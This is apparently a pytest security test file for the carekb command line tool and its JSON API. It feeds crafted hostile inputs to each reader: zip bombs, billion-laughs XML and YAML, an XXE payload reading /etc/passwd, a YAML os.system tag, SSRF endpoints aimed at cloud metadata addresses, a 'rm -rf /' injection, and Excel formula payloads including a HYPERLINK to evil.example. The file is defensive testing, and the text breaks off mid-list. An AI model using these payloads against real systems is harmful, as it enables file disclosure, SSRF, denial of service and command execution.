"""Hostile input through every door that reads user input: the command line (every command and
option that takes a file or a value), the XLSX/CSV batch reader, the JSON API of `carekb serve`,
and the date parser and input normaliser (hypothesis).

Every case must fail cleanly: exit status 2 (1 for a batch with per-row errors) and only lines
`carekb: error: …` naming the file or option, no traceback, no output file left behind; over HTTP
400/403/413/422 with a JSON body, never 500.  Paths inside a profile or overlay are text, never
followed; nothing reaches the network.  Messages speak H6's catalogue language, so the assertions
look at exit codes, the line shape and the file/field name, not at English words.

Static inputs: tests/data/attack-inputs/; the rest is built here (zip bombs, huge numbers, …).
"""

from __future__ import annotations

import io
import json
import os
import socket
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from carekb.cli.main import main
from carekb.model.errors import CarekbError

from conftest import ROOT

DATA = Path(__file__).resolve().parent / "data" / "attack-inputs"
EX = ROOT / "examples"
P = str(EX / "r7-after-school-day.yaml")        # a good profile
PB = str(EX / "r8-employment-b.yaml")
PK = str(EX / "kaigo-r8-home-visit.yaml")
SECRET = "root:x:0:0"                            # /etc/passwd's first line: must never be echoed


# --------------------------------------------------------------------------- no network, ever

@pytest.fixture(autouse=True)
def no_network(monkeypatch):
    """Any attempt to open a connection (SSRF) fails the test instead of leaving the machine."""
    tried = []

    def refuse(self, address, *a, **kw):
        tried.append(address)
        raise AssertionError(f"network connection attempted: {address!r}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", lambda address, *a, **kw: refuse(None, address))
    yield tried
    assert not tried, f"network connection attempted: {tried}"


# --------------------------------------------------------------------------- built inputs

def _xlsx(sheet_xml: bytes | None = None, shared: bytes | None = None, extra: dict | None = None,
          drop: tuple = ()) -> bytes:
    """A minimal workbook with the given parts (the real xlsx layout, so that openpyxl reads it)."""
    parts = {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                               b'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
                               b'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
                               b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
                               b'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
                               b'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
                               b'worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                               b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        "_rels/.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                       b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
                       b'2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                           b'2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                           b'<sheets><sheet name="offices" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                                      b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
                                      b'openxmlformats.org/officeDocument/2006/relationships/worksheet" Target='
                                      b'"worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.'
                                      b'openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target='
                                      b'"sharedStrings.xml"/></Relationships>',
        "xl/sharedStrings.xml": shared or (b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/'
                                           b'spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>x</t></si></sst>'),
        "xl/worksheets/sheet1.xml": sheet_xml or _sheet_xml([["事業所番号", "サービス"], ["1312345678", "home-care"]]),
    }
    parts.update(extra or {})
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            if name not in drop:
                z.writestr(name, data)
    return buf.getvalue()


def _cell(ref: str, value) -> str:
    from xml.sax.saxutils import escape
    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(str(value))}</t></is></c>'


def _sheet_xml(rows: list[list], dimension: str = "A1:B2") -> bytes:
    body = "".join(f'<row r="{i}">' + "".join(_cell(f"{chr(65 + j)}{i}", v) for j, v in enumerate(row)) + "</row>"
                   for i, row in enumerate(rows, 1))
    return (f'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            f'<dimension ref="{dimension}"/><sheetData>{body}</sheetData></worksheet>').encode()


def _zip_bomb(declared: int = 2_100_000_000) -> bytes:
    """A worksheet whose central directory claims to inflate past the reader's per-part limit (the
    size is checked before anything is inflated)."""
    data = bytearray(_xlsx())
    i = data.index(b"PK\x01\x02")   # the first central directory entry
    while True:
        name_len = int.from_bytes(data[i + 28:i + 30], "little")
        extra_len = int.from_bytes(data[i + 30:i + 32], "little")
        comment_len = int.from_bytes(data[i + 32:i + 34], "little")
        if data[i + 46:i + 46 + name_len] == b"xl/worksheets/sheet1.xml":
            data[i + 24:i + 28] = declared.to_bytes(4, "little")
            return bytes(data)
        i += 46 + name_len + extra_len + comment_len


def _lying_bomb() -> bytes:
    """A worksheet of 60 MB of zeros (60 kB deflated) whose headers claim 1,000 bytes."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        with zipfile.ZipFile(io.BytesIO(_xlsx())) as src:
            for n in src.namelist():
                z.writestr(n, src.read(n) if n != "xl/worksheets/sheet1.xml" else b"<" + b"\0" * 60_000_000)
    data = bytearray(buf.getvalue())
    for sig, off in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (i := data.find(sig, start)) >= 0:
            start = i + 4
            base = 46 if sig == b"PK\x01\x02" else 30
            nl = int.from_bytes(data[i + base - 18:i + base - 16] if sig == b"PK\x03\x04" else data[i + 28:i + 30], "little")
            if data[i + base:i + base + nl] == b"xl/worksheets/sheet1.xml":
                data[i + off:i + off + 4] = (1000).to_bytes(4, "little")
    return bytes(data)


LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                     for i in range(1, 10))
          + b']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol9;</t></si></sst>')
XXE = (b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
       b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&x;</t></si></sst>')
DEEP_JSON = "[" * 100_000 + "]" * 100_000
YAML_LAUGHS = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [" + ",".join([f"*{chr(97 + i)}"] * 9) + "]\n" for i in range(8)) + \
    "office: {service: home-care}\n"

BUILT = {   # name -> bytes (or a callable, for the large ones)
    "region-superscript.yaml": "office: {service: home-care, region: '²'}\n",
    "employees-superscript.yaml": "office: {service: home-care, employees: '²'}\n",
    "history-superscript.yaml": "office: {service: home-care}\nhistory: {shogu: '²'}\n",
    "effort-superscript.yaml": "office: {service: home-care}\neffort: {workplace.²: 1}\n",
    "workplace-superscript.yaml": "office: {service: home-care}\nworkplace: ['²', '①②', '⑳⑳']\n",
    "huge-int.yaml": "office: {service: home-care, employees: " + "9" * 5000 + "}\n",
    "huge-int.json": '{"office": {"service": "home-care", "monthly_units": ' + "9" * 5000 + "}}",
    "float-inf.yaml": "office: {service: home-care, monthly_units: 1e309}\n",
    "float-nan.yaml": "office: {service: home-care, monthly_units: .nan}\n",
    "negative.yaml": "office: {service: home-care, employees: -3, monthly_units: -1}\n",
    "surrogate.json": '{"office": {"service": "home-care", "name": "\\ud800"}}',
    "deep.json": DEEP_JSON,
    "deep.yaml": "a: " + "[" * 700 + "]" * 700 + "\n",
    "laughs.yaml": YAML_LAUGHS,
    "python-tag.yaml": "office: !!python/object/apply:os.system ['echo pwned']\n",
    "date-bad-month.yaml": "office: {service: home-care}\nas_of: 2025-13-01\n",
    "date-compact.yaml": "office: {service: home-care}\nas_of: '20250701'\n",
    "date-era-bad.yaml": "office: {service: home-care}\nas_of: 令和99年2月30日\n",
    "date-year-0.yaml": "office: {service: home-care}\nas_of: '0000-01-01'\n",
    "date-year-huge.yaml": "office: {service: home-care}\nas_of: '99999-01-01'\n",
    "binary.yaml": bytes(range(256)) * 4,
    "empty.yaml": b"",
    "bom-only.yaml": b"\xef\xbb\xbf",
    "sjis.yaml": "office: {service: home-care, name: 事業所}\n".encode("cp932"),
    "utf16.yaml": "office: {service: home-care}\n".encode("utf-16"),
    "path-office.yaml": "office: /etc/passwd\n",
    "path-include.yaml": "office: {service: home-care, name: /etc/passwd}\nmet: ['../../etc/passwd', 'file:///etc/passwd']\n",
    "list-top.yaml": "- /etc/passwd\n",
    "scalar-top.yaml": "'../../etc/passwd'\n",
    "turtle-met-int.ttl": ('@prefix ck: <https://w3id.org/carekb/vocab#> .\n'
                           '[] a ck:Office ; ck:service "home-care" ; ck:met "cp1.1", 1 .\n'),
    "turtle-effort-nocost.ttl": ('@prefix ck: <https://w3id.org/carekb/vocab#> .\n'
                                 '[] a ck:Office ; ck:service "home-care" ; ck:effort [ ck:action "cp4" ] .\n'),
    "turtle-base-file.ttl": ('@base <file:///etc/> .\n@prefix ck: <https://w3id.org/carekb/vocab#> .\n'
                             '@prefix owl: <http://www.w3.org/2002/07/owl#> .\n'
                             '<passwd> owl:imports <file:///etc/passwd> .\n[] a ck:Office ; ck:service <passwd> .\n'),
    "turtle-huge-literal.ttl": lambda: ('@prefix ck: <https://w3id.org/carekb/vocab#> .\n[] a ck:Office ; ck:name "'
                                        + "x" * 3_000_000 + '" .\n').encode(),
    "effort-bad.csv": "action,effort\ncp1.1,abc\nworkplace.²,1\n",
    "effort-nan.csv": "action,effort\ncp1.1,nan\n",
    "effort-inf.csv": "action,effort\ncp1.1,1e309\n",
    "effort-neg.csv": "action,effort\ncp1.1,-1\n",
    "effort-binary.csv": bytes(range(256)),
    "query-bad.rq": "SELECT * WHERE { ?s ?p }\n",
    "query-service.rq": "SELECT * WHERE { SERVICE <http://169.254.169.254/> { ?s ?p ?o } }\n",
    "query-load.rq": "LOAD <file:///etc/passwd>\n",
    "query-from.rq": "SELECT * FROM <file:///etc/passwd> WHERE { ?s ?p ?o }\n",
    "query-binary.rq": bytes(range(256)),
    "visit-bad.yaml": "temperature_c: '²'\n",
    "visit-huge.yaml": "temperature_c: 1e309\n",
    "visit-deep.yaml": "a: " + "[" * 700 + "]" * 700 + "\n",
    "roster-types.yaml": "office: {service: group-home-care}\nstaff:\n  - {name: a, role: '²', qualifications: [1, null, {}]}"
                         "\n  - 5\n",
    "roster-path.yaml": "office: {service: group-home-care}\nstaff: /etc/passwd\n",
    "roster-huge.yaml": "office: {service: group-home-care}\nstaff: [{name: a, years_in_corp: " + "9" * 5000 + "}]\n",
    "staff-bad.csv": "事業所番号,氏名,職種,資格\n1312345678,x,²,¹\n1312345678,=cmd|x,介護職員,介護福祉士\n,,,\n",
    # batch
    "offices-binary.csv": bytes(range(256)) * 8,
    "offices-empty.csv": b"",
    "offices-header-only.csv": "事業所番号,サービス\n",
    "offices-all-bad.csv": "事業所番号,サービス,地域区分\n1,no-such-service,²\n",
    "offices-wide.csv": lambda: (",".join(f"c{i}" for i in range(20000)) + "\n").encode(),
    "offices-huge-cell.csv": lambda: ("事業所番号,事業所名,サービス\n1," + "x" * 100_000 + ",home-care\n").encode(),
    "offices-nul.csv": b"\xe4\xba\x8b\xe6\xa5\xad\xe6\x89\x80\xe7\x95\xaa\xe5\x8f\xb7,x\x00y\n1,\x00\n",
    "offices-quote.csv": '事業所番号,事業所名,サービス\n1,"unterminated,home-care\n',
    "offices-notzip.xlsx": b"PK\x03\x04 not really a zip",
    "offices-text.xlsx": "事業所番号,サービス\n1,home-care\n",
    "offices-no-sheet.xlsx": lambda: _xlsx(drop=("xl/worksheets/sheet1.xml",)),
    "offices-no-workbook.xlsx": lambda: _xlsx(drop=("xl/workbook.xml",)),
    "offices-laughs.xlsx": lambda: _xlsx(shared=LAUGHS),
    "offices-xxe.xlsx": lambda: _xlsx(shared=XXE),
    "offices-bad-xml.xlsx": lambda: _xlsx(sheet_xml=b"<worksheet><sheetData><row><c r='A1'"),
    "offices-bad-ref.xlsx": lambda: _xlsx(sheet_xml=_sheet_xml([["事業所番号"]]).replace(b'r="A1"', b'r="!!"')),
    "offices-dimension.xlsx": lambda: _xlsx(sheet_xml=_sheet_xml(
        [["事業所番号", "サービス"], ["1312345678", "no-such"]], dimension="A1:XFD1048576")),
    "offices-far-cell.xlsx": lambda: _xlsx(sheet_xml=_sheet_xml([["事業所番号"]]).replace(
        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>')),
    "offices-bomb.xlsx": _zip_bomb,
    "offices-lying-bomb.xlsx": _lying_bomb,
}


def build(name: str, tmp: Path) -> Path:
    data = BUILT[name]
    data = data() if callable(data) else data
    path = tmp / name
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    return path


# --------------------------------------------------------------------------- the CLI table

def C(args: str, names: str | None = None, codes=(2,), out: str | None = None, shown: bool = False):
    """A case: argv template ({B:name} = a built file, {D:name} = a data file, {T} = the temp folder),
    the text the first error line must hold (default: the first file named), the allowed exit codes,
    and an output path that must not exist afterwards."""
    return {"args": args, "names": names, "codes": codes, "out": out, "shown": shown}


CASES = [
    # profiles: every command that reads one
    *[C(f"{cmd} {{B:{name}}}") for cmd in ("gap", "tiers", "validate") for name in (
        "region-superscript.yaml", "employees-superscript.yaml", "history-superscript.yaml",
        "effort-superscript.yaml", "huge-int.yaml", "huge-int.json", "float-inf.yaml",
        "float-nan.yaml", "negative.yaml", "surrogate.json", "deep.json", "deep.yaml", "laughs.yaml",
        "python-tag.yaml", "date-bad-month.yaml", "date-compact.yaml", "date-era-bad.yaml", "date-year-0.yaml",
        "date-year-huge.yaml", "binary.yaml", "empty.yaml", "bom-only.yaml", "utf16.yaml", "path-office.yaml",
        "path-include.yaml", "list-top.yaml", "scalar-top.yaml", "turtle-met-int.ttl", "turtle-effort-nocost.ttl",
        "turtle-base-file.ttl", "turtle-huge-literal.ttl")],
    C("gap {B:sjis.yaml}", codes=(0, 2)),
    *[C(f"{cmd} {{B:workplace-superscript.yaml}}", codes=(0, 2)) for cmd in ("gap", "validate --no-shacl")],  # NFKC: ² -> 2
    C("gap /nonexistent/x.yaml", names="x.yaml"),
    C("gap {T}", names=""),
    C("gap /dev/null", names="/dev/null"),
    C("gap /etc/passwd", names="/etc/passwd"),
    C("explain {B:huge-int.json} II"),
    C("plan {B:history-superscript.yaml}"),
    C("staff {B:employees-superscript.yaml}"),
    C("report {B:region-superscript.yaml} -o {T}/r.html", out="r.html"),
    C("report {B:date-bad-month.yaml} -o {T}/r.html", out="r.html"),
    # 介護 scheme
    *[C(f"{c}", names=n) for c, n in ((f"gap {PK} --target Ⅸ", "--target"), (f"explain {PK} V3", ""),
                                     (f"whatif {PK} --set office.service=no-such", "--set"),
                                     (f"whatif {PK} --compare-periods R7,R99", "--compare-periods"),
                                     ("requirements --scheme kaigo --period R99", "--period"),
                                     ("staff --scheme kaigo --as-of 2025-13-01", "--as-of"))],
    C(f"gap {PK} --rates {{D:rates-unknown-ids.csv}}"),
    # options with values
    *[C(f"gap {P} --as-of {d}", names="--as-of") for d in ("2025-13-01", "20250701", "'令和8年2月30日'",
                                                            "0000-01-01", "9999999-01-01", "'\x00'", "R8.2.30")],
    C(f"gap {P} --as-of ''", codes=(0, 2)),     # empty: the profile's own date
    *[C(f"gap {P} --target {t}", names="--target") for t in ("Ⅸ", "'../../etc/passwd'", "'I\x00'", "ii-zz")],
    C(f"gap {P} --target ''", codes=(0, 2)),
    *[C(f"explain {P} {t}", names="") for t in ("Ⅸ", "''", "'\ud800'" if False else "'\u202e'")],
    C(f"gap {P} --reading no-such-reading", names="--reading"),
    C(f"gap {P} --reading ''", codes=(0, 2)),
    C(f"tiers {P} --reading '../../etc/passwd'", names="--reading"),
    *[C(f"gap {PB} --rates {{D:{f}}}") for f in (
        "rates-bad-numbers.csv", "rates-negative.csv", "rates-nan.csv", "rates-inf.csv", "rates-duplicate.csv",
        "rates-unknown-ids.csv", "rates-sjis.csv", "rates-binary.csv", "rates-no-header.csv")],
    C(f"gap {PB} --rates {{D:rates-bom.csv}}", codes=(0,)),
    C(f"gap {PB} --rates /etc/passwd", names="/etc/passwd"),
    C(f"gap {PB} --rates {{T}}", names=""),
    C(f"gap {P} --rules-overlay {{D:overlay-malformed.ttl}}"),
    # @base file:, owl:imports of /etc/passwd and a metadata URL, @prefix redefinitions: data, never fetched
    C(f"gap {P} --rules-overlay {{D:overlay-base-file.ttl}} --rules-overlay {{D:overlay-prefix-trick.ttl}}", codes=(0, 2)),
    C(f"gap {P} --rules-overlay {{B:binary.yaml}}"),
    C(f"gap {P} --rules-overlay /etc/passwd", names="/etc/passwd"),
    # whatif
    *[C(f"whatif {P} --set {s}", names="--set") for s in (
        "as_of=2025-13-01", "office.region=²", "'met=[[['", "'=x'", "noequals", "'office.employees=" + "9" * 5000 + "'",
        "'as_of=20250701'", "'office=/etc/passwd'", "'effort={workplace.²: 1}'",
        "'a.b.c.d.e=1'", "'office.service=../../etc'", "'met=" + "[" * 700 + "'", "'met=" + "{a: " * 700 + "'",
        "'met=&a [*a]'", "'x=!!python/object/apply:os.system [id]'")],
    *[C(f"whatif {P} --add {a}", names="--add") for a in ("''", "workplace.²", "'workplace.99999999999999999999'",
                                                         "zzz", "'cp1.1; rm -rf /'", "'\u0000'")],
    *[C(f"whatif {P} --remove {a}", names="--remove") for a in ("zzz", "workplace.²", "''")],
    C(f"whatif {P} --set 'workplace=[²]'", codes=(0, 2)),
    *[C(f"whatif {P} --compare-periods {c}", names="--compare-periods") for c in ("R7,R99", "',,,'",
                                                                               "'../../etc/passwd'")],
    # plan
    *[C(f"plan {P} --budget {b}", names="--budget") for b in ("-1", "1e309", "nan", "abc", "9" * 5000, "²")],
    *[C(f"plan {P} --effort {{B:{f}}}") for f in ("effort-bad.csv", "effort-nan.csv", "effort-inf.csv",
                                                  "effort-neg.csv", "effort-binary.csv")],
    C(f"plan {P} --effort /dev/null", names="/dev/null"),
    # kb views
    *[C(f"requirements --period {p}", names="--period") for p in ("R99", "'../../etc/passwd'")],
    *[C(f"requirements --scheme {s}", names="--scheme") for s in ("nope", "'../../etc'")],
    *[C(f"{c} ''", codes=(0, 2)) for c in ("requirements --period", "requirements --scheme", "services --period")],
    C("requirements --as-of 2025-02-30", names="--as-of"),
    C("services --period R99", names="--period"),
    C("services --scheme nope", names="--scheme"),
    C("staff --scheme nope", names="--scheme"),
    C("guidance -s no-such-service", names=""),
    C("guidance -c no-such-category", names=""),
    C("guidance {B:binary.yaml}"),
    C("visit {B:visit-bad.yaml}"),
    C("visit {B:visit-huge.yaml}"),
    C("visit {B:visit-deep.yaml}"),
    C("visit /etc/passwd", names="/etc/passwd"),
    C(f"visit {EX / 'visit-admit.yaml'} --assume 'x=y'", names="--assume"),
    C(f"visit {EX / 'visit-admit.yaml'} --assume noequals", names="--assume"),
    # sparql
    C("sparql {B:query-bad.rq}"),
    C("sparql {B:query-service.rq}"),
    C("sparql {B:query-load.rq}"),
    C("sparql {B:query-binary.rq}"),
    C("sparql {B:query-from.rq}", codes=(0, 2)),
    C("sparql /etc/passwd", names="/etc/passwd", shown=True),   # the user's own query file: may be quoted
    C("sparql -n no-such-query", names=""),
    C("sparql -n ../../etc/passwd", names=""),
    C("sparql -n tier-requirements -p 'x'", names="-p"),
    C("sparql -n tier-requirements -p '=1'", names=""),
    C("sparql -n tier-requirements -p 'period=\"> } SERVICE <http://169.254.169.254/> { ?s ?p ?o } #'", codes=(0, 2), names=""),
    C("sparql {B:query-bad.rq} --with {B:region-superscript.yaml}", names=""),
    C("sparql -n tier-requirements --with /etc/passwd", names="/etc/passwd"),
    *[C(f"sparql -n tier-requirements --endpoint {u}", names="--endpoint") for u in (
        "file:///etc/passwd", "http://169.254.169.254/", "gopher://127.0.0.1:25/", "http://localhost:99999999/",
        "'http://[::1'", "ftp://x/", "'http://user:pass@169.254.169.254/'", "http://2852039166/",
        "http://0xa9.0xfe.0xa9.0xfe/", "'http://[fe80::1]/'", "http://0.0.0.0:80/")],
    C("sparql -n tier-requirements --endpoint ''", codes=(0, 2)),
    *[C(f"gap {P} --endpoint {u}", names="--endpoint") for u in ("file:///etc/passwd", "gopher://127.0.0.1:25/")],
    *[C(f"requirements --endpoint {u}", names="--endpoint") for u in ("file:///etc/passwd", "http://localhost:0/")],
    # rosters, visits, plans: the other readers
    *[C(f"{c} {{B:{f}}}") for c in ("staff", "gap") for f in ("roster-types.yaml", "roster-path.yaml", "roster-huge.yaml")],
    C(f"batch {EX / 'batch/offices.csv'} --staff {{B:staff-bad.csv}} --out {{T}}/o.csv -q", codes=(1, 2), names=""),
    C(f"batch {EX / 'batch/offices.csv'} --staff {{B:offices-laughs.xlsx}} --out {{T}}/o.csv -q", out="o.csv"),
    C(f"batch {EX / 'batch/offices.csv'} --staff /etc/passwd --out {{T}}/o.csv -q", names="/etc/passwd", out="o.csv"),
    *[C(f"visit {EX / 'visit-admit.yaml'} --assume {a}", names="--assume") for a in (
        "fever-threshold=abc", "fever-threshold=1e309", "fever-threshold=nan", "'=1'", "max-party-size=²")],
    *[C(f"whatif {P} --set {s}", names="--set") for s in (
        "office.employees=1e309", "office.monthly_units=.nan", "top_annual_wage=-1", "'history={shogu: ²}'",
        "history=5", "'office=[1]'", "met=5", "'met={a: 1}'", "'effort=[1]'", "'office.x.y=1'", "'as_of=R8.2.30'")],
    C(f"whatif {P} --set as_of=1900-01-01", names="as_of"),
    C(f"tiers {P} --as-of 1900-01-01", names="--as-of"),
    C("services --period OLD --scheme kaigo", names="--period"),
    C("sparql -n tier-requirements -p nosuch=1", names="nosuch"),
    C("sparql -n tier-requirements -p period=R99 -p 'tier=\"' -p 'scheme=\\'", codes=(0, 2), names=""),
    # outputs
    C("export -o {T}", names=""),
    C("export -o {F:full.ttl}", names="full.ttl"),
    C("export -o /nonexistent/dir/x.ttl", names="x.ttl"),
    C(f"report {P} -o {{T}}", names=""),
    C(f"report {P} -o /nonexistent/dir/r.html", names="r.html"),
    C(f"report {P} -o {{F:full.html}}", names="full.html"),
    # batch
    *[C(f"batch {{B:{f}}} --out {{T}}/o.csv -q", out="o.csv") for f in (
        "offices-binary.csv", "offices-empty.csv", "offices-wide.csv", "offices-nul.csv",
        "offices-notzip.xlsx", "offices-text.xlsx", "offices-no-sheet.xlsx", "offices-no-workbook.xlsx",
        "offices-laughs.xlsx", "offices-xxe.xlsx", "offices-bad-xml.xlsx", "offices-bad-ref.xlsx",
        "offices-far-cell.xlsx", "offices-bomb.xlsx", "offices-lying-bomb.xlsx")],
    *[C(f"batch {{B:{f}}} --out {{T}}/o.csv -q", codes=(1, 2)) for f in (
        "offices-all-bad.csv", "offices-huge-cell.csv", "offices-quote.csv",
        "offices-dimension.xlsx")],
    C("batch {B:offices-header-only.csv} --out {T}/o.csv -q", codes=(0, 1, 2)),
    C("batch {B:offices-all-bad.csv} --out {F:full.csv} -q", names="full.csv"),
    C(f"batch {EX / 'batch/offices.csv'} --out {{T}} -q", names=""),
    C(f"batch {EX / 'batch/offices.csv'} --out {{T}}/o.exe -q", names=""),
    C(f"batch {EX / 'batch/offices.csv'} --out {{T}}/o.csv --staff {{B:binary.yaml}} -q", names="", out="o.csv"),
    C(f"batch {EX / 'batch/offices.csv'} --out {{T}}/o.csv --as-of 2025-13-01 -q", names="--as-of", out="o.csv"),
    C(f"batch {EX / 'batch/offices.csv'} --out {{T}}/o.csv --workers -1 -q", names="", out="o.csv"),
    C(f"batch {EX / 'batch/offices.csv'} --out {{T}}/o.csv --rates {{D:rates-nan.csv}} -q", out="o.csv"),
    C(f"batch {EX / 'batch/offices.csv'} --reports {{T}}/o.csv/x --out {{T}}/o.csv -q", names="", codes=(0, 1, 2)),
]


def _argv(case: dict, tmp: Path) -> tuple[list[str], Path | None]:
    import shlex
    first = None
    out = []
    for a in shlex.split(case["args"]):
        for tag in ("{B:", "{D:", "{F:"):
            while tag in a:
                i = a.index(tag)
                j = a.index("}", i)
                name = a[i + 3:j]
                if tag == "{F:":      # a link to /dev/full: an output there must fail, never replace the link
                    path = tmp / name
                    path.symlink_to("/dev/full")
                else:
                    path = build(name, tmp) if tag == "{B:" else DATA / name
                first = first or path
                a = a[:i] + str(path) + a[j + 1:]
        out.append(a.replace("{T}", str(tmp)))
    return out, first


def _case_id(case):
    return case["args"].replace(str(EX) + "/", "").replace(str(ROOT) + "/", "")[:90]


def check_clean(result, codes, names, shown: bool = False) -> None:
    err = result.stderr
    everything = result.output + err
    assert "Traceback" not in everything, everything[-3000:]
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert result.exit_code in codes, (result.exit_code, everything[-2000:])
    assert shown or SECRET not in everything, "local file disclosed"
    if result.exit_code == 2:
        lines = [ln for ln in err.splitlines() if ln.strip()]
        assert 1 <= len(lines) <= 21, err[-2000:]
        assert all(ln.startswith("carekb: error: ") for ln in lines), err[-2000:]
        if names:
            assert names in lines[0], (names, lines[0])


@pytest.mark.parametrize("case", CASES, ids=_case_id)
def test_cli_attack(case, tmp_path):
    argv, first = _argv(case, tmp_path)
    names = case["names"] if case["names"] is not None else (first.name if first else "")
    result = CliRunner().invoke(main, argv, catch_exceptions=True)
    check_clean(result, case["codes"], names, case["shown"])
    if case["out"] and result.exit_code == 2:
        assert not (tmp_path / case["out"]).exists(), "partial output left behind"
    for link in tmp_path.iterdir():
        if link.name.startswith("full."):
            assert link.is_symlink(), "the device link was replaced by a file"
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")], "temporary files left behind"


def test_csv_outputs_neutralise_formulas_and_xlsx_keeps_text(tmp_path):
    """Office names and ids that Excel would run as formulas come back as text: CSV cells get a leading
    apostrophe, XLSX cells are strings (no <f> element); no row is lost."""
    import csv as csvmod
    evil = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|x",
            "@SUM(1+1)*cmd|x", "-2+3", "＝1+1"]
    rows = list(csvmod.reader((EX / "batch/offices.csv").open(encoding="utf-8")))
    for i, name in enumerate(evil, 1):
        rows[i][1] = name
    rows[len(evil) + 1][0] = "=1+1"
    src = tmp_path / "in.csv"
    with src.open("w", encoding="utf-8", newline="") as f:
        csvmod.writer(f).writerows(rows)
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"out{suffix}"
        r = CliRunner().invoke(main, ["batch", str(src), "--out", str(out), "-q"])
        check_clean(r, (0,), "")
        if suffix == ".csv":
            got = list(csvmod.reader(out.open(encoding="utf-8-sig")))
            names = [g[2] for g in got[1:]]
            assert len(got) - 1 == len(rows) - 1, "row lost"
            assert names[:len(evil)] == ["'" + e for e in evil]
            assert got[len(evil) + 1][1] == "'=1+1"
            assert all(not c.startswith(("=", "+", "@")) for g in got for c in g)
            actions = (tmp_path / "out-actions.csv").read_text(encoding="utf-8-sig")
            assert "\n2," in actions and ",=" not in actions and ',"=' not in actions
        else:
            with zipfile.ZipFile(out) as z:
                for n in z.namelist():
                    assert b"<f>" not in z.read(n) and b"<f " not in z.read(n), n


# --------------------------------------------------------------------------- the JSON API (in process)

@pytest.fixture(scope="module")
def api_client():
    from starlette.testclient import TestClient

    from carekb.graph.kbload import load_kb
    from carekb.web.app import Settings, create_app
    app = create_app(None, load_kb(), 0, Settings(max_upload=2_000_000))
    with TestClient(app, raise_server_exceptions=False, base_url="http://127.0.0.1") as client:
        yield client


GOOD = {"office": {"service": "home-care", "employees": 5}, "as_of": "2025-07-01"}
# one overlay (one KB build): @base file:, owl:imports, @prefix redefinitions, a 1.5 MB literal on a file: IRI
OVERLAY_TRICKS = "\n".join((DATA / f).read_text(encoding="utf-8") for f in ("overlay-base-file.ttl",
                                                                            "overlay-prefix-trick.ttl")) + \
    '\n<file:///etc/passwd> <https://w3id.org/carekb/vocab#x> "' + "y" * 1_500_000 + '" .\n'


def J(call, body, codes=(400, 422)):
    return {"call": call, "body": body, "codes": codes}


API_CASES = [
    J("gap", b"{not json"), J("gap", b""), J("gap", b"[]"), J("gap", b"null"), J("gap", b'"x"'),
    J("gap", {"profile": 123}), J("gap", {"profile": None}), J("gap", {"profile": []}), J("gap", {}),
    J("gap", ('{"profile": {"office": {"service": "home-care", "employees": ' + "9" * 5000 + "}}}").encode()),
    J("gap", b'{"profile": {"office": {"service": "home-care", "employees": 1e309}}}'),
    J("gap", b'{"profile": {"office": {"service": "home-care", "employees": NaN}}}'),
    J("gap", b'{"profile": {"office": {"service": "home-care", "name": "\\ud800"}}}'),
    J("gap", b'{"profile": "office: {service: home-care, name: \\"\\ud800\\"}"}'),
    J("gap", ('{"profile": ' + "[" * 50_000 + "]" * 50_000 + "}").encode()),
    J("gap", {"profile": {"office": {"service": "home-care"}, "x": [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]}}),
